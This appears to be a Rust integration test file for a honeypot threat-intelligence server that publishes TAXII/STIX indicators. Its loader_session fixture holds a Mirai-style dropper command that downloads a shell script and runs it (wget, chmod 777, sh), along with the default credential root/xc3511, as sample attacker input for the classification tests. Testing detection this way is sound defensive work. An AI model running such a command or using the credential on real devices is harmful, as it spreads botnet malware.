//! The central service over HTTP (in-process, through the same service `serve` runs):
//! idempotent ingest, cursor stability while versions are added, IPv6, equal timestamps at a
//! page boundary, and the TAXII status codes.

use axum::body::Body;
use axum::http::{header, HeaderMap, Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{json, Value};
use sikker_event::{Auth, AuthMethod, Disconnect, Event, EventData, Protocol, Timestamp};
use sikker_server::analyst::CountsOnly;
use sikker_server::{keys, Central, CentralConfig};
use sikker_stix::TAXII_MEDIA_TYPE;
use sikker_store::{DateAddedPolicy, KeyRole, SqliteOptions, SqliteStore, Store};
use std::collections::{HashMap, HashSet};
use std::net::IpAddr;
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::Arc;
use tower::ServiceExt;
use uuid::Uuid;

struct Harness {
    _dir: tempfile::TempDir,
    central: Arc<Central>,
    store: SqliteStore,
    key: String,
    sensor: String,
}

const OBJECTS: &str = "/taxii2/collections/sikker-threat-intel/objects/";

async fn harness(options: SqliteOptions) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path(), options).unwrap();
    let (key, record) = keys::generate(KeyRole::Api, "free", "test").unwrap();
    store.insert_key(record).await.unwrap();
    let (sensor, record) = keys::generate(KeyRole::Sensor, "free", "sensor").unwrap();
    store.insert_key(record).await.unwrap();
    let central = Central::start(
        Arc::new(store.clone()),
        Arc::new(CountsOnly),
        CentralConfig::default(),
    )
    .await
    .unwrap();
    Harness {
        _dir: dir,
        central,
        store,
        key,
        sensor,
    }
}

fn fast() -> SqliteOptions {
    SqliteOptions {
        durable: false,
        ..SqliteOptions::default()
    }
}

struct Reply {
    status: StatusCode,
    headers: HeaderMap,
    body: Value,
}

impl Harness {
    async fn send(&self, req: Request<Body>) -> Reply {
        let resp = sikker_server::service(self.central.clone())
            .oneshot(req)
            .await
            .unwrap();
        // Ingest answers once events are stored; the worker then carries them to the feed.
        self.central.pipeline.settle().await;
        let status = resp.status();
        let headers = resp.headers().clone();
        let bytes = resp.into_body().collect().await.unwrap().to_bytes();
        let body = if bytes.is_empty() {
            Value::Null
        } else {
            serde_json::from_slice(&bytes).unwrap()
        };
        Reply {
            status,
            headers,
            body,
        }
    }

    async fn get(&self, uri: &str) -> Reply {
        self.send(
            Request::get(uri)
                .header(header::AUTHORIZATION, format!("Bearer {}", self.key))
                .header(header::ACCEPT, TAXII_MEDIA_TYPE)
                .body(Body::empty())
                .unwrap(),
        )
        .await
    }

    async fn ingest(&self, events: &[Event]) -> Reply {
        self.send(
            Request::post("/v1/ingest")
                .header(header::AUTHORIZATION, format!("Bearer {}", self.sensor))
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(serde_json::to_vec(events).unwrap()))
                .unwrap(),
        )
        .await
    }

    /// Walks the whole collection with `limit`, calling `between` after each page.
    async fn walk(&self, limit: usize, mut between: impl AsyncFnMut(usize)) -> Vec<Value> {
        let mut out = Vec::new();
        let mut uri = format!("{OBJECTS}?limit={limit}");
        for page in 0.. {
            let r = self.get(&uri).await;
            assert_eq!(r.status, 200, "{}", r.body);
            out.extend(r.body["objects"].as_array().cloned().unwrap_or_default());
            between(page).await;
            if r.body["more"] != json!(true) {
                break;
            }
            let next = r.body["next"].as_str().expect("next whenever more");
            uri = format!("{OBJECTS}?next={next}");
        }
        out
    }
}

fn session(ip: &str, protocol: Protocol) -> Vec<Event> {
    let ip: IpAddr = ip.parse().unwrap();
    let s = Uuid::now_v7();
    [
        EventData::Connect,
        EventData::Auth(Auth {
            method: AuthMethod::Password,
            username: "root".into(),
            password: Some("admin".into()),
            key_type: None,
            key_fingerprint: None,
            success: true,
        }),
        EventData::Command {
            line: "uname -a".into(),
        },
        EventData::Disconnect(Disconnect {
            reason: "closed".into(),
            duration_ms: 3,
            bytes_in: 9,
            bytes_out: 90,
        }),
    ]
    .into_iter()
    .map(|d| Event::new("test", s, protocol, ip, 41000, protocol.standard_port(), d))
    .collect()
}

#[tokio::test]
async fn same_batch_twice_leaves_the_store_unchanged() {
    let h = harness(fast()).await;
    let mut batch = session("203.0.113.10", Protocol::Ssh);
    batch.extend(session("2001:db8::10", Protocol::Telnet));
    let first = h.ingest(&batch).await;
    assert_eq!(first.status, 200);
    assert_eq!(first.body["stored"].as_array().unwrap().len(), 8);
    let before = h.store.stats().await.unwrap();
    let feed_before = h.walk(1000, async |_| {}).await;
    let second = h.ingest(&batch).await;
    assert_eq!(second.status, 200);
    assert_eq!(second.body["stored"], json!([]));
    assert_eq!(second.body["known"].as_array().unwrap().len(), 8);
    assert_eq!(h.store.stats().await.unwrap(), before);
    assert_eq!(h.walk(1000, async |_| {}).await, feed_before);

    // One bad event is rejected alone, with its reason; the rest are stored.
    let mut mixed = serde_json::to_value(session("198.51.100.20", Protocol::Ssh)).unwrap();
    mixed[1]["protocol"] = json!("gopher");
    let r = h
        .send(
            Request::post("/v1/ingest")
                .header(header::AUTHORIZATION, format!("Bearer {}", h.sensor))
                .body(Body::from(mixed.to_string()))
                .unwrap(),
        )
        .await;
    assert_eq!(r.body["stored"].as_array().unwrap().len(), 3);
    assert_eq!(r.body["rejected"][0]["index"], 1);
    assert!(r.body["rejected"][0]["reason"]
        .as_str()
        .unwrap()
        .contains("gopher"));
    // Wrong credentials.
    let r = h
        .send(Request::post("/v1/ingest").body(Body::from("[]")).unwrap())
        .await;
    assert_eq!(r.status, 401);
    let r = h
        .send(
            Request::post("/v1/ingest")
                .header(header::AUTHORIZATION, format!("Bearer {}", h.key))
                .body(Body::from("[]"))
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, 403);
}

#[tokio::test]
async fn cursor_walk_stays_complete_while_new_versions_arrive() {
    let h = harness(fast()).await;
    let ips: Vec<String> = (0..240)
        .map(|i| format!("192.0.2.{}", i % 240 + 1))
        .collect();
    let mut batch = Vec::new();
    for ip in &ips {
        batch.extend(session(ip, Protocol::Ssh));
    }
    h.ingest(&batch).await;
    let start = h.walk(1000, async |_| {}).await;
    let start_ids: HashSet<String> = start
        .iter()
        .map(|o| o["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(start_ids.len(), 242);

    // While walking, give some walked and some not-yet-walked IPs new versions, and add new IPs.
    let mut round = 0usize;
    let walked = h
        .walk(25, async |page| {
            let mut b = session(&ips[(page * 37) % ips.len()], Protocol::Telnet);
            b.extend(session(&ips[(page * 53 + 200) % ips.len()], Protocol::Http));
            b.extend(session(&format!("198.51.100.{}", page + 1), Protocol::Ssh));
            round += 1;
            assert_eq!(h.ingest(&b).await.status, 200);
        })
        .await;
    assert!(round > 5);
    let seen: HashSet<String> = walked
        .iter()
        .map(|o| o["id"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        start_ids.is_subset(&seen),
        "an object present at the start was skipped"
    );
    // Never the same version twice; versions of one object arrive oldest first.
    let mut versions: HashMap<String, Vec<String>> = HashMap::new();
    for o in &walked {
        let id = o["id"].as_str().unwrap().to_owned();
        let modified = o["modified"]
            .as_str()
            .or(o["created"].as_str())
            .unwrap()
            .to_owned();
        let list = versions.entry(id).or_default();
        assert!(
            list.last().is_none_or(|m| *m < modified),
            "{list:?} then {modified}"
        );
        list.push(modified);
    }
}

#[tokio::test]
async fn ipv6_indicators_and_lookup_by_address() {
    let h = harness(fast()).await;
    h.ingest(&session(
        "2001:0DB8:0000:0000:0000:0000:0000:00AB",
        Protocol::Ssh,
    ))
    .await;
    h.ingest(&session("::ffff:198.51.100.77", Protocol::Ssh))
        .await;
    let r = h.get(&format!("{OBJECTS}2001:db8::ab/")).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let o = &r.body["objects"][0];
    assert_eq!(o["pattern"], "[ipv6-addr:value = '2001:db8::ab']");
    let by_id = h
        .get(&format!("{OBJECTS}{}/", o["id"].as_str().unwrap()))
        .await;
    assert_eq!(by_id.body, r.body);
    let expanded = h.get(&format!("{OBJECTS}2001:db8:0:0:0:0:0:ab")).await;
    assert_eq!(expanded.body["objects"][0]["id"], o["id"]);
    // IPv4-mapped addresses are the IPv4 indicator.
    let mapped = h.get(&format!("{OBJECTS}198.51.100.77/")).await;
    assert_eq!(
        mapped.body["objects"][0]["pattern"],
        "[ipv4-addr:value = '198.51.100.77']"
    );
    assert_eq!(h.get(&format!("{OBJECTS}2001:db8::ac/")).await.status, 404);
    assert_eq!(h.get(&format!("{OBJECTS}not-an-id/")).await.status, 404);
    let versions = h.get(&format!("{OBJECTS}2001:db8::ab/versions/")).await;
    assert_eq!(versions.body["versions"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn equal_timestamps_never_straddle_a_page() {
    // A frozen wall clock makes every version of a batch share one date_added.
    let clock = Arc::new(AtomicI64::new(Timestamp::now().0));
    let c = clock.clone();
    let h = harness(SqliteOptions {
        date_added: DateAddedPolicy::WallClockMillis,
        clock: Arc::new(move || c.load(Ordering::SeqCst)),
        durable: false,
        readers: 2,
    })
    .await;
    for (group, size) in [(1, 3usize), (2, 4), (3, 3)] {
        clock.fetch_add(5_000, Ordering::SeqCst);
        let mut b = Vec::new();
        for i in 0..size {
            b.extend(session(&format!("203.0.{group}.{i}"), Protocol::Ssh));
        }
        h.ingest(&b).await;
    }
    // 2 fixed objects (one date_added each at start-up), then groups of 3, 4 and 3.
    let mut uri = format!("{OBJECTS}?limit=6");
    let mut pages = Vec::new();
    loop {
        let r = h.get(&uri).await;
        let objs = r.body["objects"].as_array().unwrap().clone();
        let first = r.headers["x-taxii-date-added-first"]
            .to_str()
            .unwrap()
            .to_owned();
        let last = r.headers["x-taxii-date-added-last"]
            .to_str()
            .unwrap()
            .to_owned();
        pages.push((objs.len(), first, last));
        if r.body["more"] != json!(true) {
            break;
        }
        uri = format!("{OBJECTS}?next={}", r.body["next"].as_str().unwrap());
    }
    let sizes: Vec<usize> = pages.iter().map(|p| p.0).collect();
    // Page one may not end inside the 4-group: it stops after the first group of 3.
    assert_eq!(sizes, vec![5, 4, 3], "{pages:?}");
    // Resuming with added_after = the last header value of a page loses nothing.
    let r = h
        .get(&format!("{OBJECTS}?added_after={}", pages[0].2))
        .await;
    assert_eq!(r.body["objects"].as_array().unwrap().len(), 7);
}

#[tokio::test]
async fn status_codes_and_media_type_everywhere() {
    let h = harness(fast()).await;
    let plain = |method: &str, uri: &str| {
        Request::builder()
            .method(method)
            .uri(uri)
            .body(Body::empty())
            .unwrap()
    };
    let cases: Vec<(Request<Body>, u16)> = vec![
        (plain("GET", "/taxii2/"), 200),
        (plain("GET", "/taxii2"), 200),
        (plain("GET", "/taxii2/collections"), 200),
        (
            plain(
                "GET",
                "/taxii2/collections/07e4891b-3647-45de-b49f-138bff69d0ab/",
            ),
            200,
        ),
        (plain("GET", "/taxii2/collections/nope/"), 404),
        (plain("GET", OBJECTS), 401),
        (
            plain("GET", "/taxii2/collections/sikker-threat-intel/manifest"),
            401,
        ),
        (plain("GET", "/taxii2/status/1234/"), 401),
        (plain("PUT", "/taxii2/"), 405),
        (plain("GET", "/elsewhere"), 404),
        (
            Request::get("/taxii2/")
                .header(header::ACCEPT, "application/taxii+json;version=2.0")
                .body(Body::empty())
                .unwrap(),
            406,
        ),
        (
            Request::get(OBJECTS)
                .header(header::AUTHORIZATION, "Bearer sk_free_wrong")
                .body(Body::empty())
                .unwrap(),
            401,
        ),
        (
            Request::get(OBJECTS)
                .header(header::AUTHORIZATION, format!("Bearer {}", h.sensor))
                .body(Body::empty())
                .unwrap(),
            403,
        ),
        (
            Request::post(OBJECTS)
                .header("x-api-key", h.key.clone())
                .body(Body::from("{}"))
                .unwrap(),
            403,
        ),
        (
            Request::get(format!("{OBJECTS}?limit=0"))
                .header("x-api-key", h.key.clone())
                .body(Body::empty())
                .unwrap(),
            400,
        ),
        (
            Request::get("/taxii2/status/1234/")
                .header("x-api-key", h.key.clone())
                .body(Body::empty())
                .unwrap(),
            404,
        ),
    ];
    for (req, want) in cases {
        let what = format!("{} {}", req.method(), req.uri());
        let r = h.send(req).await;
        assert_eq!(r.status.as_u16(), want, "{what}: {}", r.body);
        assert_eq!(r.headers[header::CONTENT_TYPE], TAXII_MEDIA_TYPE, "{what}");
        if want >= 400 {
            assert_eq!(r.body["http_status"], want.to_string(), "{what}");
            assert!(r.body["title"].is_string(), "{what}");
        }
        if want == 401 {
            assert!(
                r.headers[header::WWW_AUTHENTICATE]
                    .to_str()
                    .unwrap()
                    .starts_with("Basic"),
                "{what}"
            );
        }
    }
}

/// A harness whose analyst is the real engine with the default catalog.
async fn engine_harness(config: CentralConfig) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path(), fast()).unwrap();
    let (key, record) = keys::generate(KeyRole::Api, "free", "t").unwrap();
    store.insert_key(record).await.unwrap();
    let (sensor, record) = keys::generate(KeyRole::Sensor, "free", "s").unwrap();
    store.insert_key(record).await.unwrap();
    let analyst = sikker_server::analyst::EngineAnalyst::new(
        sikker_engine::Engine::builtin(),
        sikker_engine::BenignList::builtin(),
    );
    let central = Central::start(Arc::new(store.clone()), Arc::new(analyst), config)
        .await
        .unwrap();
    Harness {
        _dir: dir,
        central,
        store,
        key,
        sensor,
    }
}

/// A Mirai-style loader session over SSH from `ip`, with or without its disconnect.
fn loader_session(ip: IpAddr, disconnect: bool) -> Vec<Event> {
    let s = Uuid::now_v7();
    let mut data = vec![
        EventData::Connect,
        EventData::Auth(Auth {
            method: AuthMethod::Password,
            username: "root".into(),
            password: Some("xc3511".into()),
            key_type: None,
            key_fingerprint: None,
            success: true,
        }),
        EventData::Command {
            line: "cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh".into(),
        },
    ];
    if disconnect {
        data.push(EventData::Disconnect(Disconnect {
            reason: "closed".into(),
            duration_ms: 900,
            bytes_in: 90,
            bytes_out: 300,
        }));
    }
    data.into_iter()
        .map(|d| Event::new("test", s, Protocol::Ssh, ip, 40100, 22, d))
        .collect()
}

#[tokio::test]
async fn a_session_never_disconnected_is_closed_by_the_sweep() {
    let h = engine_harness(CentralConfig {
        close_idle_sessions_after: std::time::Duration::ZERO,
        idle_sweep_every: std::time::Duration::from_millis(20),
        ..CentralConfig::default()
    })
    .await;
    let ip: IpAddr = "203.0.113.67".parse().unwrap();
    let events = loader_session(ip, false);
    assert_eq!(h.ingest(&events).await.status, 200);
    // No disconnect will come (the sensor died): the sweep closes the session, the worker
    // classifies it and the indicator gets its behavior.
    let mut labels = Value::Null;
    for _ in 0..500 {
        let r = h.get(&format!("{OBJECTS}203.0.113.67/")).await;
        if r.status == 200 && r.body["objects"][0]["labels"].is_array() {
            labels = r.body["objects"][0]["labels"].clone();
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    assert!(
        labels.as_array().is_some_and(|l| !l.is_empty()),
        "the swept session was never classified"
    );
    let record = h.store.ip_record(ip).await.unwrap().unwrap();
    assert_eq!(record.behaviors.values().sum::<u64>(), 1);
}

#[tokio::test]
async fn an_ingested_session_shows_its_behavior_in_the_feed() {
    let h = engine_harness(CentralConfig::default()).await;
    // A Mirai-style loader session over SSH.
    let ip: IpAddr = "203.0.113.66".parse().unwrap();
    let events = loader_session(ip, true);
    assert_eq!(h.ingest(&events).await.status, 200);
    let r = h.get(&format!("{OBJECTS}203.0.113.66/")).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let o = &r.body["objects"][0];
    let labels = o["labels"].as_array().expect("labels from the behavior");
    assert!(!labels.is_empty());
    assert!(o["confidence"].as_u64().unwrap() > 0, "{o}");
    assert_eq!(o["indicator_types"][0], "malicious-activity", "{o}");
    let phases = o["kill_chain_phases"].as_array().expect("ATT&CK phases");
    assert!(phases
        .iter()
        .all(|p| p["kill_chain_name"] == "mitre-attack"));
    let techniques: Vec<&str> = o["external_references"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["source_name"] == "mitre-attack")
        .map(|r| r["external_id"].as_str().unwrap())
        .collect();
    assert!(
        techniques.contains(&"T1105"),
        "ingress tool transfer in {techniques:?}"
    );
}

#[tokio::test]
async fn gzip_ndjson_is_accepted_and_bad_encodings_are_refused() {
    use std::io::Write;
    let h = harness(fast()).await;
    let events = session("198.51.100.200", Protocol::Ssh);
    let ndjson: String = events
        .iter()
        .map(|e| serde_json::to_string(e).unwrap() + "\n")
        .collect();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(ndjson.as_bytes()).unwrap();
    let body = gz.finish().unwrap();
    let post = |body: Vec<u8>, encoding: &str| {
        Request::post("/v1/ingest")
            .header(header::AUTHORIZATION, format!("Bearer {}", h.sensor))
            .header(header::CONTENT_TYPE, "application/x-ndjson")
            .header(header::CONTENT_ENCODING, encoding)
            .body(Body::from(body))
            .unwrap()
    };
    let r = h.send(post(body, "gzip")).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["stored"].as_array().unwrap().len(), 4);
    let r = h.send(post(b"not gzip at all".to_vec(), "gzip")).await;
    assert_eq!(r.status, 400);
    assert!(r.body["error"].as_str().unwrap().contains("gzip"));
    let r = h.send(post(ndjson.into_bytes(), "br")).await;
    assert_eq!(r.status, 415);
    // `identity` is no encoding at all; the truncated array is then the error.
    let r = h.send(post(b"[{\"id\":".to_vec(), "identity")).await;
    assert_eq!(r.status, 400);
    assert!(
        r.body["error"].as_str().unwrap().contains("line 1"),
        "{}",
        r.body
    );
}

#[tokio::test]
async fn a_repeated_event_id_does_not_make_a_partial_session_look_complete() {
    let h = engine_harness(CentralConfig::default()).await;
    let ip: IpAddr = "203.0.113.70".parse().unwrap();
    let mut all = loader_session(ip, true); // connect, auth, the loader command, disconnect
    let disconnect = all.pop().unwrap();
    assert_eq!(h.ingest(&all).await.status, 200);
    // One harmless command sent four times (one id), then the disconnect: five events in the
    // batch and five would-be "fresh" copies, but only two new stored events.
    let mut ls = all[0].clone();
    ls.id = Uuid::now_v7();
    ls.data = EventData::Command { line: "ls".into() };
    let batch = vec![ls.clone(), ls.clone(), ls.clone(), ls, disconnect];
    assert_eq!(h.ingest(&batch).await.status, 200);
    let record = h.store.ip_record(ip).await.unwrap().unwrap();
    // The same session sent whole, for comparison: the loader line of the first batch
    // must be part of the verdict.
    let whole_ip: IpAddr = "203.0.113.72".parse().unwrap();
    assert_eq!(h.ingest(&loader_session(whole_ip, true)).await.status, 200);
    let whole = h.store.ip_record(whole_ip).await.unwrap().unwrap();
    assert!(!whole.behaviors.is_empty());
    assert_eq!(record.behaviors, whole.behaviors);
}

/// A request body that never arrives.
struct Stalled;

impl axum::body::HttpBody for Stalled {
    type Data = axum::body::Bytes;
    type Error = std::io::Error;
    fn poll_frame(
        self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<Self::Data>, Self::Error>>> {
        std::task::Poll::Pending
    }
}

#[tokio::test]
async fn a_stalled_upload_gets_408_and_frees_its_permit() {
    let h = engine_harness(CentralConfig {
        max_concurrent_ingests: 1,
        ingest_body_timeout: std::time::Duration::from_millis(300),
        ..CentralConfig::default()
    })
    .await;
    let stalled = Request::post("/v1/ingest")
        .header(header::AUTHORIZATION, format!("Bearer {}", h.sensor))
        .body(Body::new(Stalled))
        .unwrap();
    let central = h.central.clone();
    let first = tokio::spawn(async move {
        sikker_server::service(central)
            .oneshot(stalled)
            .await
            .unwrap()
            .status()
    });
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    // The healthy sensor waits for the permit, then is served.
    let batch = session("198.51.100.77", Protocol::Ssh);
    let r = tokio::time::timeout(std::time::Duration::from_secs(10), h.ingest(&batch))
        .await
        .expect("the stalled upload let go of its permit");
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(first.await.unwrap(), StatusCode::REQUEST_TIMEOUT);
}

#[tokio::test]
async fn an_oversized_body_gets_413() {
    let h = engine_harness(CentralConfig {
        max_ingest_bytes: 1_000,
        ..CentralConfig::default()
    })
    .await;
    let events: Vec<Event> = (0..20)
        .flat_map(|i| session(&format!("198.51.100.{i}"), Protocol::Ssh))
        .collect();
    let r = h.ingest(&events).await;
    assert_eq!(r.status, 413, "{}", r.body);
    assert!(r.body["error"].as_str().unwrap().contains("1000 bytes"));
}

#[tokio::test]
async fn a_spool_backlog_is_not_closed_between_its_batches() {
    let h = engine_harness(CentralConfig {
        close_idle_sessions_after: std::time::Duration::from_secs(3600),
        idle_sweep_every: std::time::Duration::from_millis(10),
        ..CentralConfig::default()
    })
    .await;
    let ip: IpAddr = "203.0.113.71".parse().unwrap();
    let mut events = loader_session(ip, true);
    let three_hours_ago = Timestamp::now().0 - 3 * 3_600_000_000;
    for (i, e) in events.iter_mut().enumerate() {
        e.ts = Timestamp(three_hours_ago + i as i64 * 1_000);
    }
    // The backlog of a sensor that was cut off for three hours arrives in two batches.
    assert_eq!(h.ingest(&events[..3]).await.status, 200);
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let record = h.store.ip_record(ip).await.unwrap().unwrap();
    assert!(
        record.behaviors.is_empty(),
        "classified before its disconnect arrived: {:?}",
        record.behaviors
    );
    assert_eq!(h.ingest(&events[3..]).await.status, 200);
    let record = h.store.ip_record(ip).await.unwrap().unwrap();
    assert_eq!(record.behaviors.values().sum::<u64>(), 1);
    // The identity, the marking, and the IP's two versions (seen; then classified): no churn.
    assert_eq!(h.store.stats().await.unwrap().feed_versions, 4);
}

/// Panics on the first session it classifies and on the first IP it assesses.
struct PanicsOnce {
    classified: std::sync::atomic::AtomicBool,
    assessed: std::sync::atomic::AtomicBool,
}

impl sikker_server::Analyst for PanicsOnce {
    fn classify(
        &self,
        s: &sikker_store::SessionRecord,
        e: &[Event],
    ) -> sikker_server::SessionVerdict {
        if !self.classified.swap(true, Ordering::SeqCst) {
            panic!("an engine bug on one odd session");
        }
        CountsOnly.classify(s, e)
    }
    fn assess(&self, ip: &sikker_store::IpRecord) -> sikker_server::Assessment {
        if !self.assessed.swap(true, Ordering::SeqCst) {
            panic!("an engine bug on one odd IP");
        }
        CountsOnly.assess(ip)
    }
    fn explain(&self, ip: &sikker_store::IpRecord) -> serde_json::Value {
        CountsOnly.explain(ip)
    }
}

#[tokio::test]
async fn a_panicking_analyst_loses_one_verdict_not_the_worker() {
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path(), fast()).unwrap();
    let central = Central::start(
        Arc::new(store.clone()),
        Arc::new(PanicsOnce {
            classified: Default::default(),
            assessed: Default::default(),
        }),
        CentralConfig::default(),
    )
    .await
    .unwrap();
    for ip in ["198.51.100.80", "198.51.100.81"] {
        central
            .pipeline
            .accept(session(ip, Protocol::Ssh))
            .await
            .unwrap();
    }
    tokio::time::timeout(
        std::time::Duration::from_secs(10),
        central.pipeline.settle(),
    )
    .await
    .expect("the worker survives and settles");
    assert!(store.pending_sessions(10).await.unwrap().is_empty());
    // One IP could not be assessed the first time; it stays dirty and is published by the
    // next pass, which the next batch starts.
    central
        .pipeline
        .accept(session("198.51.100.82", Protocol::Ssh))
        .await
        .unwrap();
    central.pipeline.settle().await;
    for ip in ["198.51.100.80", "198.51.100.81", "198.51.100.82"] {
        let r = store.ip_record(ip.parse().unwrap()).await.unwrap().unwrap();
        assert!(r.confidence.is_some(), "{ip} was never published");
    }
}
